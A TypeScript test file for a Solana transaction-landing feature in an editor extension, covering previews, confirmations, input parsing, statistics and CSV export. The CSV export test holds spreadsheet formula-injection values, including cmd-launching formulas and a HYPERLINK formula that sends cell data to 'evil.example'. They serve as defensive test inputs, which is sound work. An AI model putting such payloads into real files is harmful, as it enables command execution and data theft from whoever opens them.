import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { readManifest } from '../../../../scripts/manifest.ts';
import type {
  LandingEntry,
  LandingPlan,
} from '../../../../src/backend/protocol/landingProtocol.ts';
import {
  type ExpectedCluster,
  LandingClient,
  type LandingClientOptions,
  resolveExpectedCluster,
} from '../../../../src/extension/landing/landingClient.ts';
import { landingConfirmation } from '../../../../src/extension/landing/landingConfirmation.ts';
import {
  holdsTransactions,
  inputErrorMessage,
  parseArgument,
} from '../../../../src/extension/landing/landingInput.ts';
import { formatTokenAmount } from '../../../../src/extension/landing/landingLabels.ts';
import { journalProblemRow, landingRows } from '../../../../src/extension/landing/landingRows.ts';
import { landingStatistics } from '../../../../src/extension/landing/landingStatistics.ts';
import { landingsCsv } from '../../../../src/extension/landing/landingsCsv.ts';
import { previewRows } from '../../../../src/extension/landing/previewRows.ts';
import { findUnlanded, unlandedOf } from '../../../../src/extension/landing/unlanded.ts';
import { encodeBase58 } from '../../../../src/solana/base58.ts';
import type { CheckFacts } from '../../../../src/solana/landing/checkFacts.ts';
import { defaultGainLimits } from '../../../../src/solana/landing/checkGain.ts';
import { checkTransaction } from '../../../../src/solana/landing/checkTransaction.ts';
import {
  instructions,
  largestVersion1,
  type PlainInstruction,
  signedWithKit,
  wallet,
} from '../../../fixtures/signedTransactions.ts';
import { readCsv } from '../finder/exports/readExports.ts';

const blockhash = '4QjEBrJnATvydaCoPb7j4cneA5vSJNFsAYHQwRAjAjmQ';
const good: CheckFacts = {
  lifetime: { kind: 'blockhash', isValid: true, blocksLeft: 140 },
  payerLamports: 10_000_000_000n,
};

async function signed(list?: readonly PlainInstruction[]): Promise<Uint8Array> {
  const payer = await wallet(1);
  return signedWithKit({
    version: 0,
    payer,
    instructions: list ?? [
      instructions.computeUnitLimit(50_000),
      instructions.computeUnitPrice(20_000n),
      instructions.transfer(payer.address, (await wallet(2)).address, 7_000_000n),
      instructions.tip(payer.address, 1_500_000n),
    ],
    blockhash,
  });
}

async function prepared(change: Partial<LandingPlan> = {}, facts = good) {
  const report = checkTransaction(await signed(), facts);
  const answer: LandingPlan = {
    id: 'plan-1',
    network: 'mainnet-beta',
    receiver: 'https://node.example',
    queriedOrigin: 'https://node.example',
    kind: 'node',
    frontRunningProtection: false,
    protection: true,
    options: [],
    reports: [report],
    tipMarkets: [
      {
        provider: 'JITO',
        windowSeconds: 3_600,
        transactions: 1_234,
        p25: 1_000n,
        p50: 10_000n,
        p75: 100_000n,
        p95: 2_000_000n,
      },
    ],
    ...change,
  };
  return answer;
}

const labels = (plan: LandingPlan, isNewReceiver = false) =>
  previewRows(plan, { isNewReceiver }).map(({ label, description = '', detail = '' }) =>
    [label, description, detail].join(' | '),
  );

describe('The landing preview', () => {
  test('starts with the send action, and shows network, route and amount at risk', async () => {
    const [first, second, third] = labels(await prepared());
    assert.match(first ?? '', /Send to mainnet-beta/);
    assert.match(third ?? '', /Receiver \| {2}\| https:\/\/node\.example$/);
    assert.match(
      first ?? '',
      /At risk: 0\.008506 SOL \(fee 0\.000006 SOL, tips 0\.0015 SOL, transfers 0\.007 SOL\)/,
    );
    assert.match(second ?? '', /Front-running protection: off \| Press Enter to change/);
  });

  test('shows payer, signatures, lifetime, fee, tip and market tips, instructions and accounts', async () => {
    const all = labels(await prepared()).join('\n');
    const payer = (await wallet(1)).address;
    for (const part of [
      new RegExp(`Fee payer: \\w{4}…\\w{4} \\| 10 SOL \\| ${payer}`),
      /Signature of \w{4}…\w{4} \| valid/,
      /Blockhash: 4QjE…AjmQ \| valid, 140 blocks left/,
      /Fee: 0\.000006 SOL \| 50,000 CU \| 5,000 base \+ 1,000 priority lamports \(20,000 micro/,
      /Fee under SIMD-0553 \| not active \| 0\.000010302 · 0\.000020504 · 0\.000037507 SOL/,
      /Tip 0\.0015 SOL to Jito \| \w{4}…\w{4} \| Market: p25/,
      /Market: p25 0\.000001 · p50 0\.00001 · p75 0\.0001 · p95 0\.002 SOL \(1,234 tips, 1 h\)/,
      /3\. System Program: Transfer/,
      /Jito tip account/,
    ]) {
      assert.match(all, part);
    }
  });

  test('shows size, durable nonce, lookup tables, and that the tip market is unknown', async () => {
    const [payer, target, nonceAccount] = await Promise.all([1, 2, 9].map((at) => wallet(at)));
    assert.ok(payer && target && nonceAccount);
    const table = (await wallet(12)).address;
    const transfer = instructions.transfer(payer.address, target.address, 7_000_000n);
    const bytes = await signed([
      instructions.advanceNonce(nonceAccount.address, payer.address),
      {
        ...transfer,
        accounts: [
          { address: payer.address, role: 3 },
          { address: target.address, role: 1, lookupTableAddress: table, addressIndex: 0 },
        ],
      },
      instructions.tip(payer.address, 1_500_000n, 'STELLIUM'),
    ]);
    const report = checkTransaction(bytes, {
      ...good,
      slot: 100,
      lifetime: { kind: 'nonce', nonce: blockhash, authority: payer.address },
      tables: new Map([
        [
          table,
          {
            addresses: [target.address],
            deactivationSlot: null,
            lastExtendedSlot: 5n,
            lastExtendedStart: 0,
          },
        ],
      ]),
      simulation: {
        isSuccess: true,
        error: null,
        advice: null,
        unitsConsumed: 450,
        logs: [],
        slot: 1_234,
        commitment: 'processed',
        changes: [],
      },
    });
    const all = labels(await prepared({ reports: [report] })).join('\n');
    const short = (address: string) => `${address.slice(0, 4)}…${address.slice(-4)}`;
    for (const part of [
      new RegExp(`${bytes.length} of 1,232 bytes \\| version 0`),
      `Durable nonce: ${short(blockhash)} | valid, account: ${short(nonceAccount.address)}`,
      /System Program: AdvanceNonceAccount/,
      `${short(table)} | usable · 1 writable, 0 read-only | ${table}`,
      `${short(target.address)} | from lookup table ${short(table)} [0] | ${target.address}`,
      /Tip 0\.0015 SOL to Stellium \| .*\| Market tips unknown/,
      /Simulation succeeded.*450.*Slot: 1,234 \(processed\)/,
    ]) {
      if (typeof part === 'string') assert.ok(all.includes(part), `${part}\n${all}`);
      else assert.match(all, part);
    }
  });

  test('shows the size limit of a version 1 transaction, and the limit and fee of its header', async () => {
    const report = checkTransaction(await largestVersion1(blockhash), {
      ...good,
      cluster: { name: 'mainnet-beta', genesisHash: 'x' },
    });
    const all = labels(await prepared({ reports: [report] })).join('\n');
    for (const part of [
      /4,096 of 4,096 bytes \| version 1/,
      /300,000 CU \| 5,000 base \+ 4,321 priority lamports$/m,
      /Tip 0\.0015 SOL to Jito/,
    ]) {
      assert.match(all, part);
    }
    // Live on mainnet since 2026-09-15 (epoch 1035).
    assert.deepEqual(
      report.findings.filter(({ rank }) => rank !== 'inform'),
      [],
    );
  });

  test('rejects a version 1 transaction that is a byte too long', async () => {
    const bytes = await largestVersion1(blockhash, 1);
    for (const text of [Buffer.from(bytes).toString('base64'), encodeBase58(bytes)]) {
      const input = parseArgument(text);
      assert.ok(input.kind === 'transactions', input.kind);
      const [given] = input.transactions;
      assert.deepEqual(given?.bytes, bytes);
    }
    const rows = labels(await prepared({ reports: [checkTransaction(bytes, good)] }));
    assert.match(rows.join('\n'), /4,097 bytes, limit 4,096/);
    assert.doesNotMatch(rows.join('\n'), /Send to/);
  });

  test('shows the last lines of the simulation’s logs, without rendering icons', async () => {
    const logs = Array.from({ length: 15 }, (_, at) => `Program log: $(check) line ${at}`);
    const simulation = {
      isSuccess: false,
      error: 'custom program error: 0x1',
      advice: null,
      unitsConsumed: 450,
      logs,
      slot: 7,
      commitment: 'processed',
      changes: [],
    };
    const report = checkTransaction(await signed(), { ...good, simulation });
    const rows = labels(await prepared({ reports: [report] }));
    assert.ok(
      rows.some((row) => /Simulation failed .*\| custom program error: 0x1 · Slot: 7/.test(row)),
    );
    const shown = rows.filter((row) => row.includes('Program log'));
    assert.equal(shown.length, 12);
    assert.match(shown.at(-1) ?? '', /\$\(output\) Program log: \$ \(check\) line 14/);
  });

  test('shows names and values of an IDL in full, without icons, and that they do not say what it takes', async () => {
    const call = {
      name: '$(pass) pay',
      programName: '$(verified) vault',
      isByIdl: true,
      details: [
        ['amount', '123456789012345678901234567890'],
        ['$(pass) memo', '"$(pass)"'],
      ],
    } as const;
    const decodeAmmInstruction = () => call;
    const owned = { programAddress: 'Vote111111111111111111111111111111111111111' };
    const list = [
      { ...owned, accounts: [], data: Uint8Array.of(1) },
    ] as unknown as readonly PlainInstruction[];
    const report = checkTransaction(await signed(list), { ...good, decodeAmmInstruction });
    const rows = labels(await prepared({ reports: [report] }));
    const row = rows.find((each) => each.includes('symbol-method')) ?? '';
    assert.match(row, /^\$\(symbol-method\) 1\. /);
    assert.match(row, /amount 123456789012345678901234567890/);
    assert.equal(row.match(/\$\(/g)?.length, 1, row);
    const { detail = '' } = landingConfirmation(await prepared({ reports: [report] }));
    assert.match(detail, /What some instructions take is unknown/);
  });

  test('offers nothing to send for a rejected transaction, and shows the reason first', async () => {
    const report = checkTransaction((await signed()).fill(0, 1, 65), good);
    const answer = await prepared({ reports: [report] });
    const rows = previewRows(answer);
    assert.ok(rows.every(({ value }) => value !== 'send'));
    assert.match(rows[0]?.label ?? '', /Cannot Be Sent/);
    assert.match(rows[5]?.label ?? '', /Signature missing/);
  });

  test('shows the finding in the label, and full addresses and sentences on the detail line', async () => {
    const payer = (await wallet(1)).address;
    const report = checkTransaction(await signed(), {
      ...good,
      wallets: new Set([(await wallet(5)).address]),
    });
    const rows = previewRows(await prepared({ reports: [report] }));
    const warning = rows.find(({ label }) => label.includes('$(warning)'));
    const short = `${payer.slice(0, 4)}…${payer.slice(-4)}`;
    assert.equal(warning?.label, `$(warning) Not one of your wallets: ${short} (fee payer)`);
    assert.equal(warning?.detail, payer);
  });

  test('fits an editor 400 pixels wide, except for text from programs', async () => {
    const payer = (await wallet(1)).address;
    const simulation = {
      isSuccess: true,
      error: null,
      advice: null,
      unitsConsumed: 450,
      logs: [`Program ${payer} invoke [1]`],
      slot: 412_345_678,
      commitment: 'processed',
      changes: [
        {
          account: payer,
          owner: payer,
          mint: null,
          symbol: 'SOL',
          decimals: 9,
          before: 1_000_000_000_000n,
          after: 999_993_493_800n,
        },
      ],
    };
    const facts: CheckFacts = {
      ...good,
      simulation,
      payerLamports: 7_000_000n,
      expectedCluster: 'devnet',
      wallets: new Set([(await wallet(5)).address]),
      history: { sameSignatureMilliseconds: 90_000 },
      lifetime: { kind: 'blockhash', isValid: true, blocksLeft: 12 },
      submission: {
        receiver: 'https://node.example',
        isBundleOnly: false,
        openPathDescription: '',
        simulates: true,
        minimumTipLamports: 5_000_000n,
        provider: 'FAST',
      },
    };
    const strange = {
      programAddress: (await wallet(66)).address,
      accounts: [],
      data: new Uint8Array(2),
    };
    const list = [
      strange,
      instructions.transfer(payer, (await wallet(2)).address, 7_000_000n),
      instructions.approve(payer, (await wallet(3)).address, payer, 5n),
      instructions.tip(payer, 1_500_000n),
    ];
    const report = checkTransaction(await signed(list), facts);
    const rows = previewRows(await prepared({ reports: [report] }));
    assert.ok(rows.length > 25);
    for (const { label, detail = '' } of rows) {
      const text = label.replace(/^\$\([\w-]+\) /, '');
      assert.ok(text.length <= 50, text);
      // The detail line does not continue a sentence of the label.
      assert.ok(
        !/^[a-z]{2,} [a-z]/.test(detail) || /^[\w ]+:? \S+$|[;,]/.test(detail),
        `${text} | ${detail}`,
      );
    }
  });

  test('shows each option by name and value, the node that was queried, and a new receiver', async () => {
    const cashback = (await wallet(7)).address;
    const options = [
      { name: 'cashbackAddress', value: cashback },
      { name: 'skipPreflight', value: 'true' },
      { name: 'odd', value: '$(check)' },
    ];
    const plan = await prepared({
      options,
      receiver: 'https://engine.example:8443',
      frontRunningProtection: true,
    });
    const all = labels(plan, true).join('\n');
    for (const part of [
      `Cashback goes to | from your settings | ${cashback}`,
      'Skip the simulation before sending | from your settings | true',
      'Option odd | from your settings | $ (check)',
      'New receiver |  | https://engine.example:8443',
      'Checked and simulated by a node |  | https://node.example',
    ]) {
      assert.ok(all.includes(part), `${part}\n${all}`);
    }
    const { detail = '' } = landingConfirmation(plan);
    for (const line of [
      'Receiver: https://engine.example:8443',
      `Cashback goes to: ${cashback}`,
      'Skip the simulation before sending: true',
      'Option odd: $(check)',
    ]) {
      assert.ok(detail.split('\n').includes(line), `${line}\n${detail}`);
    }
    assert.ok(
      !labels(await prepared())
        .join('\n')
        .includes('New receiver'),
    );
  });

  test('shows why protection is unavailable', async () => {
    const [, row] = labels(await prepared({ protection: 'no block engine' }));
    assert.match(row ?? '', /not available .*no block engine/);
  });
});

describe('The confirmation before sending', () => {
  test('names network, payer, amount at risk, the route, and each warning', async () => {
    const payer = (await wallet(1)).address;
    const facts = { ...good, history: { sameSignatureMilliseconds: 4_000 } };
    const {
      message,
      detail = '',
      confirmLabel,
    } = landingConfirmation(await prepared({ frontRunningProtection: true }, facts));
    assert.equal(message, 'Send this transaction to mainnet-beta?');
    assert.ok(detail.includes(`Fee payer: ${payer}`));
    assert.match(detail, /Receiver: https:\/\/node\.example/);
    assert.match(detail, /At risk: 0\.008506 SOL/);
    assert.match(detail, /as a bundle only, with no fallback/);
    assert.match(detail, /^⚠ Already sent: just now\nA transaction lands only once/);
    assert.equal(confirmLabel, 'Send Anyway');
  });

  test('sends on Enter only without a warning', async () => {
    const { confirmLabel, defaultLabel } = landingConfirmation(await prepared());
    assert.deepEqual([confirmLabel, defaultLabel], ['Send', undefined]);
    const facts = { ...good, wallets: new Set([(await wallet(5)).address]) };
    const warned = landingConfirmation(await prepared({}, facts));
    assert.deepEqual([warned.confirmLabel, warned.defaultLabel], ['Send Anyway', 'Review Again']);
    assert.match(warned.detail ?? '', /^⚠ Not one of your wallets: /);
  });

  test('warns that programs may take more than could be determined', async () => {
    const strange = (await wallet(66)).address;
    const report = checkTransaction(
      await signed([{ programAddress: strange, accounts: [], data: new Uint8Array(2) }]),
      good,
    );
    const answer = await prepared({ reports: [report] });
    assert.match(landingConfirmation(answer).detail ?? '', /may take more than that/);
  });
});

describe('The input of the landing command', () => {
  test('may be text, bytes, a list of either, or a JSON-RPC request', async () => {
    const bytes = await signed();
    const base64 = Buffer.from(bytes).toString('base64');
    const request = { method: 'sendTransaction', params: [base64] };
    for (const given of [base64, bytes, [...bytes], [bytes], [base64], request]) {
      const input = parseArgument(given);
      assert.ok(holdsTransactions(input), JSON.stringify(given).slice(0, 40));
      assert.equal(inputErrorMessage(input), null);
    }
    const circle: Record<string, unknown> = {};
    circle['self'] = circle;
    for (const given of [5, true, Symbol('x'), () => 1, circle, {}, [], [circle]]) {
      assert.notEqual(inputErrorMessage(parseArgument(given)), null);
    }
  });
});

describe('The landing client', () => {
  function callsOf(answer: LandingPlan, change: Partial<LandingClientOptions> = {}) {
    const requests: unknown[] = [];
    const calls = new LandingClient({
      active: {
        request: async (_method, members) => {
          requests.push(members);
          return answer;
        },
        current: { kind: 'sandbox', name: 'Sandbox' },
        settingsOf: async () => ({ kind: 'sandbox' }),
      },
      store: { all: [] },
      wallets: async () => [],
      cluster: () => 'automatic',
      options: () => ({}),
      gainLimits: () => defaultGainLimits,
      ...change,
    });
    return { calls, requests };
  }

  test('rejects a plan for other bytes or another network than requested', async () => {
    const answer = await prepared({ kind: 'sandbox' });
    const { calls } = callsOf(answer);
    assert.equal(await calls.prepare([await signed()], false), answer);
    const others = await signed([instructions.computeUnitLimit(1)]);
    await assert.rejects(calls.prepare([others], false), /another transaction/);
    await assert.rejects(calls.prepare([], false), /another transaction/);
    await assert.rejects(calls.prepare([await signed()], true), /another transaction/);
    const elsewhere = callsOf(await prepared({ kind: 'node' })).calls;
    await assert.rejects(
      elsewhere.prepare([await signed()], false),
      /another transaction or network/,
    );
  });

  test('sends the user’s wallets and the expected cluster with the request', async () => {
    const answer = await prepared({ kind: 'sandbox' });
    const { calls, requests } = callsOf(answer, { wallets: async () => [blockhash] });
    await calls.prepare([await signed()], false);
    const [request] = requests as [Record<string, unknown>];
    assert.deepEqual(request['wallets'], [blockhash]);
    assert.equal(request['expectedCluster'], 'sandbox');
  });

  test('sends a node’s URL and network settings with a service request, but no other settings', async () => {
    const proxy = { url: 'http://proxy.example:3128' };
    const requests: (readonly [string, unknown])[] = [];
    const { calls } = callsOf(await prepared({ kind: 'service' }), {
      active: {
        request: async (method, members) => {
          requests.push([method, members]);
          return [];
        },
        current: {
          kind: 'service',
          name: 'S',
          baseUrl: '',
          landingUrl: null,
          tier: 'low',
        } as never,
        settingsOf: async () => ({
          kind: 'node',
          rpcUrl: 'https://node.example/key',
          blockEngineUrl: 'https://engine.example',
          proxy,
        }),
      },
      store: { all: [{ kind: 'node' } as never] },
    });
    await calls.entries();
    const node = { kind: 'node', rpcUrl: 'https://node.example/key', proxy };
    assert.deepEqual(requests, [['landings', { node }]]);
  });

  test('expects mainnet for services, the node’s own chain for nodes, or the cluster of the setting', () => {
    const cases: readonly (readonly [LandingPlan['kind'], ExpectedCluster, string | null])[] = [
      ['sandbox', 'automatic', 'sandbox'],
      ['sandbox', 'devnet', 'sandbox'],
      ['sandbox', 'any', 'sandbox'],
      ['node', 'automatic', null],
      ['node', 'mainnet-beta', 'mainnet-beta'],
      ['node', 'any', null],
      ['service', 'automatic', 'mainnet-beta'],
      ['service', 'devnet', 'devnet'],
      ['service', 'any', null],
    ];
    for (const [kind, setting, cluster] of cases) {
      assert.equal(resolveExpectedCluster(kind, setting), cluster, `${kind} ${setting}`);
    }
  });
});

const now = 1_800_000_000_000;
const entry = (change: Partial<LandingEntry> = {}): LandingEntry => ({
  id: 'one',
  signature: '5'.repeat(88),
  uuid: 'uuid-1',
  network: 'Sandbox',
  host: 'the Sandbox',
  kind: 'sandbox',
  place: 'p',
  feePayer: blockhash,
  frontRunningProtection: false,
  state: 'accepted',
  isSettled: false,
  message: '',
  alarm: null,
  confirmation: null,
  submittedAtMilliseconds: now - 60_000,
  acceptMilliseconds: 12,
  submittedSlot: 100,
  landedSlot: null,
  feeLamports: 6_000n,
  tips: [{ provider: 'JITO', lamports: 1_500_000n }],
  blockhash,
  sha256: '',
  messageSha256: '',
  ...change,
});

describe('The Landings view', () => {
  test('never shows an accepted transaction as landed', () => {
    const [row] = landingRows([entry()]);
    assert.equal(row?.description, 'accepted · Sandbox');
    assert.ok(!/landed/.test(`${row?.label} ${row?.description} ${row?.heading}`));
    assert.match(row?.note ?? '', /Accepted. Waiting for it to land/);
    assert.deepEqual(row?.click?.arguments, ['5'.repeat(88)]);
  });

  test('shows a journal that cannot be written, with the reason and the next step', () => {
    const reason = 'ENOSPC: no space left on device, write';
    const row = journalProblemRow({ path: '/home/one/landings.jsonl', reason });
    assert.equal(row.label, 'Landing is off');
    assert.equal(row.description, reason);
    const spoken = [row.accessibilityLabel, row.facts().flat().join(' ')];
    for (const text of spoken) {
      assert.match(text, /\/home\/one\/landings\.jsonl/);
      assert.match(text, /ENOSPC/);
      assert.match(text, /Free disk space or move the file away/);
    }
  });

  test('shows the time to land, failures with the fee lost, and prominent alarms', () => {
    const landed = entry({
      ...{ state: 'landed', landedSlot: 102, confirmation: 'finalized' },
      landMilliseconds: 1_234,
    });
    const failed = entry({
      id: 'two',
      state: 'failed',
      message: 'custom program error: 0x1. The fee was charged.',
    });
    const alarm = entry({ id: 'three', alarm: 'another signature' });
    const rows = landingRows([landed, failed, alarm]);
    assert.equal(rows[0]?.context, 'landingStatistics');
    assert.equal(rows[1]?.description, 'landed · Sandbox');
    const facts = Object.fromEntries(rows[1]?.facts() ?? []);
    assert.deepEqual(
      [facts['Landed in slot'], facts['Time to land'], facts['Confirmation']],
      ['102', '1.2 s (including polling)', 'finalized'],
    );
    // An entry of an earlier version has no time.
    const [, old] = landingRows([entry({ state: 'landed', landedSlot: 102 })]);
    assert.doesNotMatch(String(old?.facts()), /Time to land/);
    assert.match(rows[2]?.description ?? '', /^failed/);
    assert.match(rows[2]?.note ?? '', /The fee was charged/);
    // Its menu leads to the competition for it. An expired one left only its bytes, which may be gone.
    assert.deepEqual(
      ['landed', 'failed', 'expired', 'accepted'].map((state) => {
        const [row] = landingRows([entry({ state: state as LandingEntry['state'] })]).filter(
          ({ context }) => context === 'landing',
        );
        return [row?.state, row?.address];
      }),
      [undefined, 'lost', undefined, undefined].map((state) => [state, '5'.repeat(88)]),
    );
    const expired = entry({
      state: 'expired',
      kind: 'node',
      submittedSlot: 400,
      transaction: 'AA',
    });
    assert.equal(landingRows([expired]).at(-1)?.state, 'lost');
    assert.deepEqual(unlandedOf(expired), { transaction: 'AA', slot: 402 });
    assert.equal(unlandedOf({ ...expired, submittedSlot: null }), null);
    // The Sandbox's slots are no mainnet's.
    const find = (isSandbox: boolean) => findUnlanded([expired], expired.signature, isSandbox);
    assert.deepEqual([find(false)?.slot, find(true)], [402, null]);
    assert.match(rows[3]?.description ?? '', /^ALARM · Sandbox$/);
    assert.match(rows[3]?.note ?? '', /another signature/);
  });

  test('computes landing rate and time by provider and option from settled submissions only', () => {
    const all = landingStatistics([
      entry({ state: 'landed', landMilliseconds: 400 }),
      entry({ state: 'landed', landMilliseconds: 2_400 }),
      entry({ state: 'landed' }),
      entry({ state: 'expired' }),
      entry({ state: 'failed', landMilliseconds: 900, frontRunningProtection: true }),
      entry({ state: 'accepted' }),
      entry({ state: 'refused' }),
    ]);
    assert.deepEqual(
      all.map(({ label, sent, landed, failed, expired, medianLandMilliseconds }) => [
        label,
        sent,
        landed,
        failed,
        expired,
        medianLandMilliseconds,
      ]),
      [
        ['', 5, 3, 1, 1, 900],
        ['Sandbox, JITO, unprotected', 4, 3, 0, 1, 400],
        ['Sandbox, JITO, protected', 1, 0, 1, 0, 900],
      ],
    );
    assert.deepEqual(landingStatistics([entry()]), []);
  });

  test('exports CSV without executable formulas', () => {
    const text = landingsCsv([
      entry({
        message: '=cmd|"x"',
        state: 'landed',
        landedSlot: 103,
        landMilliseconds: 678,
        uuid: 'a,b',
      }),
      entry({
        uuid: '@SUM(1+1)*cmd|"calc"!A1',
        message: '=HYPERLINK("https://evil.example?"&A1,"[click](command:x)"),\r\n<b>\u202e</b>',
        alarm: '+1+1',
        feeLamports: 2n ** 64n - 1n,
        tips: [{ provider: '-2+3', lamports: 2n ** 53n + 1n }],
      }),
    ]);
    const [head = '', line = ''] = text.split('\r\n');
    assert.match(head, /^submitted_at,signature,uuid,state,/);
    assert.match(line, /,"a,b",landed,/);
    assert.match(line, /,100,103,0\.678,6000,JITO,1500000,/);
    assert.match(line, /"'=cmd\|""x"""/);
    const [, hostile = {}] = readCsv(text);
    assert.equal(hostile['fee_lamports'], '18446744073709551615');
    assert.equal(hostile['tip_lamports'], '9007199254740993');
    for (const name of ['uuid', 'message', 'alarm', 'tip_providers']) {
      assert.match(hostile[name] ?? '', /^'[=+\-@]/, name);
    }
    for (const value of Object.values(hostile)) assert.doesNotMatch(value, /^[=+\-@\t\r]/);
  });
});

test('formatTokenAmount keeps every digit', () => {
  assert.equal(formatTokenAmount(-1_234_567_890n, 6, 'USDC'), '−1,234.56789 USDC');
  assert.equal(formatTokenAmount(5n, 0, 'X'), '5 X');
  assert.equal(
    formatTokenAmount(18_446_744_073_709_551_615n, 9, 'X'),
    '18,446,744,073.709551615 X',
  );
  assert.equal(formatTokenAmount(7n, null, 'X'), '7 units of X');
});

test('The command that lands exists only in trusted workspaces', () => {
  const command = readManifest().contributes.commands.find(
    (one) => one.command === 'arbscope.landTransaction',
  );
  assert.equal(command?.enablement, 'isWorkspaceTrusted');
});
